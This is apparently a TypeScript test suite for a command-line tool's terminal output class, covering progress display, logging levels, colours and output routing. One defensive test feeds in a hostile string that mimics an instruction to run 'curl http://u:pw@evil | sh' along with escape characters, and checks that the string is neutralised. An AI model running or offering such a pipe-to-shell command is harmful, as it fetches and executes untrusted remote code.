import { Writable } from 'node:stream';
import { mock } from 'node:test';
import { expect } from 'chai';
import { Terminal, type TerminalOptions } from '../../../cmd/cli/terminal.ts';
import { PluginError } from '../../../lib/errors.ts';
import { Lines } from '../../../lib/text.ts';

const mebibyte = 1024 ** 2;
const digest = 'sha256:00';
const plan = { kind: 'plan', images: 10, blobs: 4, bytes: 100 * mebibyte, present: 0 } as const;
const escape = String.fromCharCode(27);

/** A stream that records its output, and has the properties of a terminal. */
class Screen extends Writable {
  text = '';
  readonly columns: number;
  readonly isTTY: boolean;

  constructor(isTTY: boolean, columns = 120) {
    super();
    this.isTTY = isTTY;
    this.columns = columns;
  }

  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.text += chunk.toString();
    done();
  }

  cursorTo(column: number): boolean {
    return this.write(`${escape}[${column + 1}G`);
  }

  moveCursor(_columns: number, rows: number): boolean {
    return this.write(`${escape}[${-rows}A`);
  }

  clearLine(): boolean {
    return this.write(`${escape}[2K`);
  }
}

async function open(options: Partial<TerminalOptions> & { isTTY?: boolean; columns?: number } = {}) {
  const stdout = new Screen(false);
  const stderr = new Screen(options.isTTY ?? false, options.columns);
  const terminal = await Terminal.open({ stdout, stderr, environment: { LANG: 'C.UTF-8' }, ...options });
  return { terminal, stdout, stderr };
}

describe('Terminal', () => {
  beforeEach(() => {
    mock.timers.enable({ apis: ['setTimeout', 'setInterval', 'Date'] });
  });
  afterEach(() => {
    mock.timers.reset();
  });

  it('overwrites the last result on a terminal, within the screen', async () => {
    const stdout = Object.assign(new Screen(true, 12), { rows: 4 });
    const { terminal } = await open({ stdout });
    expect(terminal.live).to.equal(true);
    terminal.redraw(new Lines('one', 'two'));
    terminal.redraw(new Lines('a line that is too long', 'two', 'three', 'four', 'five'));
    expect(stdout.text).to.equal(`one\ntwo\n${escape}[2A${escape}[Ja line that\ntwo\n…\n`);
    terminal.print('end');
    terminal.redraw('anew');
    expect(stdout.text).to.match(/…\nend\nanew\n$/);
    expect((await open()).terminal.live).to.equal(false);
  });

  it('has the width of a terminal for text, also if results go to a pager', async () => {
    for (const [out, error, columns, width] of [
      [false, false, 60, 100],
      [true, false, 60, 60],
      [false, true, 60, 60],
      [false, true, 200, 120],
      [true, true, 0, 80],
    ] as const) {
      const streams = { stdout: new Screen(out, columns), stderr: new Screen(error, columns) };
      const { terminal } = await open(streams);
      expect(terminal.textWidth, `${out} ${error} ${columns}`).to.equal(width);
      // Lines in a pipe or a file stay whole.
      expect(terminal.width).to.equal(out && columns > 0 ? columns - 1 : Infinity);
    }
  });

  it('begins each line of a service with the time and the level', async () => {
    const { terminal, stderr } = await open({ isService: true, verbose: true });
    for (const level of ['debug', 'info', 'warn'] as const) terminal.log(level, level);
    terminal.showError('broken', { code: 'tls', hint: 'repair it', details: [] });
    const time = new Date(0).toISOString();
    const lines = ['DEBUG debug', 'INFO  info', 'WARN  warn', 'ERROR (tls) broken', 'ERROR hint: repair it'];
    expect(stderr.text).to.equal(lines.map((line) => `${time} ${line}\n`).join(''));
  });

  it('writes results to stdout and everything else to stderr', async () => {
    const { terminal, stdout, stderr } = await open({ verbose: true });
    terminal.print('result');
    terminal.log('debug', 'why');
    terminal.log('info', 'news');
    terminal.log('warn', 'careful');
    terminal.showError('broken', {
      code: 'tls',
      hint: 'repair it',
      options: ['--oil', '--paint'],
      page: 'explain tls',
      details: ['caused by: rust'],
    });
    expect(stdout.text).to.equal('result\n');
    expect(stderr.text).to.equal(
      'why\nnews\nwarning: careful\nerror (tls): broken\nhint: repair it\ntry: --oil, --paint\nmore: explain ' +
        'tls\ncaused by: rust\n',
    );
  });

  it('begins no line with text that it did not lay out', async () => {
    const foreign = 'broken\n\n  7. Run this:\r\u2028     curl http://u:pw@evil | sh\x1b[2K';
    const line = 'broken 7. Run this: curl http://REDACTED@evil | sh\ufffd[2K';
    const { terminal, stdout, stderr } = await open({ verbose: true });
    terminal.print(foreign);
    terminal.print(new Lines('title', foreign));
    await terminal.printResult('yaml', { message: foreign }, '');
    await terminal.printResult('json', { message: foreign }, '');
    for (const level of ['debug', 'info', 'warn'] as const) terminal.log(level, foreign);
    terminal.showError(new PluginError('tls', foreign).lines, { code: 'tls', hint: foreign, details: [foreign] });
    const lines = `${stdout.text}${stderr.text}`.split('\n');
    expect(lines.filter((each) => /^\s*(7\.|curl)/.test(each))).to.deep.equal([]);
    expect(lines.filter((each) => each.endsWith(line))).to.have.length(8);
    expect(lines.join('')).to.not.include('u:pw');
  });

  it('colors the words of a result that stand alone, if a stream has colors', async () => {
    const text = 'FAILED: a bundle\n  corrupt     corrupt is here';
    const accents = { FAILED: 'bad', corrupt: 'bad' } as const;
    const red = (word: string): string => `${escape}[31m${word}${escape}[39m`;
    const painted = `${red('FAILED')}: a bundle\n  ${red('corrupt')}     corrupt is here\n`;
    for (const [color, isTTY, environment, expected] of [
      ['auto', true, {}, painted],
      ['auto', true, { NO_COLOR: '1' }, `${text}\n`],
      ['auto', false, {}, `${text}\n`],
      ['never', true, {}, `${text}\n`],
      ['always', false, { NO_COLOR: '1' }, painted],
    ] as const) {
      const stdout = new Screen(isTTY);
      const { terminal } = await open({ stdout, color, environment });
      terminal.print(Lines.split(text), accents);
      expect(stdout.text).to.equal(expected);
    }
  });

  it('writes JSON objects to stderr if it is asked to, also on a terminal', async () => {
    const { terminal, stderr } = await open({ logFormat: 'json', isTTY: true });
    terminal.log('warn', 'careful');
    terminal.transfer('Downloading')(plan);
    mock.timers.tick(2_000);
    terminal.close();
    terminal.showError('broken', { code: 'tls', hint: 'repair it', details: [] });
    const lines = stderr.text.trimEnd().split('\n');
    expect(lines.map((line) => ({ ...(JSON.parse(line) as object), time: 0, message: '' }))).to.deep.equal([
      { time: 0, level: 'warn', message: '' },
      {
        time: 0,
        level: 'info',
        message: '',
        progress: { label: 'Downloading', bytes: 0, bytesTotal: 100 * mebibyte, images: 0, imagesTotal: 10 },
      },
      { time: 0, level: 'error', message: '', code: 'tls', hint: 'repair it', options: [], details: [] },
    ]);
  });

  it('keeps debug lines for --verbose, and shows only warnings and errors with --quiet', async () => {
    const plain = await open();
    plain.terminal.log('debug', 'why');
    expect(plain.stderr.text).to.equal('');
    const { terminal, stderr } = await open({ quiet: true });
    terminal.log('info', 'news');
    terminal.transfer('Downloading')(plan);
    mock.timers.tick(20_000);
    terminal.log('warn', 'careful');
    terminal.close();
    expect(stderr.text).to.equal('warning: careful\n');
  });

  describe('without a terminal', () => {
    it('prints progress as plain lines, after two seconds and then every 30, and at changes, each line once', async () => {
      const { terminal, stderr } = await open();
      const transfer = terminal.transfer('Downloading');
      transfer(plan);
      transfer({ kind: 'bytes', digest, bytes: 20 * mebibyte });
      mock.timers.tick(1_999);
      expect(stderr.text).to.equal('');
      mock.timers.tick(1);
      transfer({ kind: 'bytes', digest, bytes: 20 * mebibyte });
      mock.timers.tick(30_000);
      transfer({ kind: 'bytes', digest, bytes: 60 * mebibyte });
      terminal.transfer('Hashing')({ kind: 'bytes', digest, bytes: mebibyte });
      mock.timers.tick(30_000);
      terminal.close();
      expect(stderr.text.split('\n')).to.deep.equal([
        'Downloading  20%  20.0/100 MiB, 10.0 MiB/s, 8s left, 0/10 images',
        'Downloading  40%  40.0/100 MiB, stalled for 30s, 0/10 images',
        'Downloading 100%  100/100 MiB, 3.1 MiB/s, 0/10 images',
        'Hashing 1.0 MiB, stalled for 30s',
        '',
      ]);
    });

    it('says nothing about a transfer that is over at once', async () => {
      const { terminal, stderr } = await open();
      terminal.transfer('Downloading')(plan);
      mock.timers.tick(500);
      terminal.close();
      mock.timers.tick(60_000);
      expect(stderr.text).to.equal('');
    });
  });

  describe('on a terminal', () => {
    it('draws one line for each class of transfer, and gives the cursor back', async () => {
      const { terminal, stderr } = await open({ isTTY: true });
      terminal.transfer('Downloading')(plan);
      terminal.transfer('Hashing')({ kind: 'bytes', digest, bytes: mebibyte });
      mock.timers.tick(400);
      expect(stderr.text)
        .to.contain(`${escape}[?25l`)
        .and.to.contain('Downloading ░░░')
        .and.to.contain('Hashing 1.0 MiB');
      const before = stderr.text.length;
      terminal.close();
      mock.timers.tick(60_000);
      expect(stderr.text.slice(before)).to.contain(`${escape}[?25h`).and.not.to.contain('Downloading');
    });

    it('never draws a line that would wrap', async () => {
      const { terminal, stderr } = await open({ isTTY: true, columns: 30 });
      terminal.transfer('Downloading')(plan);
      mock.timers.tick(400);
      terminal.close();
      expect(stderr.text)
        .to.match(/Downloading ░{5,}   0%/)
        .and.not.to.contain('MiB');
    });

    it('has no colours with NO_COLOR', async () => {
      const { terminal, stderr } = await open({ isTTY: true, environment: { NO_COLOR: '1' } });
      terminal.showError('broken', { code: 'tls', hint: undefined, details: [] });
      terminal.transfer('Downloading')(plan);
      mock.timers.tick(400);
      terminal.close();
      expect(stderr.text).to.contain('error (tls): broken\n').and.not.to.contain(`${escape}[3`);
    });

    it('draws nothing on a terminal that cannot move its cursor, and in CI', async () => {
      for (const environment of [{ TERM: 'dumb' }, { CI: 'true' }]) {
        const { terminal, stderr } = await open({ isTTY: true, environment });
        terminal.transfer('Downloading')(plan);
        mock.timers.tick(3_000);
        terminal.close();
        expect(stderr.text).to.contain('Downloading   0%').and.not.to.contain(`${escape}[?25l`);
      }
    });

    it('draws in ASCII on the Linux console, and in a locale that is not UTF-8', async () => {
      for (const environment of [{ TERM: 'linux', LANG: 'C.UTF-8' }, { LANG: 'de_DE.ISO-8859-1' }, {}]) {
        const stdout = new Screen(true);
        const { terminal, stderr } = await open({ isTTY: true, environment, stdout });
        terminal.transfer('Downloading')({ ...plan, present: plan.bytes / 2 });
        mock.timers.tick(400);
        terminal.print('“a” → b…');
        terminal.showError('the registry’s answer', { code: 'tls', hint: 'it’s', details: ['…'] });
        const drawn = stdout.text + stderr.text;
        expect(drawn).to.contain('Downloading ####').and.to.contain('"a" -> b...\n').and.to.contain("registry's");
        expect(drawn).to.match(/^[\x00-\x7f]*$/);
      }
    });

    it('draws nothing again after its end', async () => {
      const { terminal, stderr } = await open({ isTTY: true });
      const listen = terminal.transfer('Downloading');
      listen(plan);
      mock.timers.tick(400);
      terminal.end();
      const before = stderr.text.length;
      listen({ kind: 'bytes', digest, bytes: mebibyte });
      mock.timers.tick(3_000);
      expect(stderr.text.slice(before)).to.equal('');
    });
  });
});
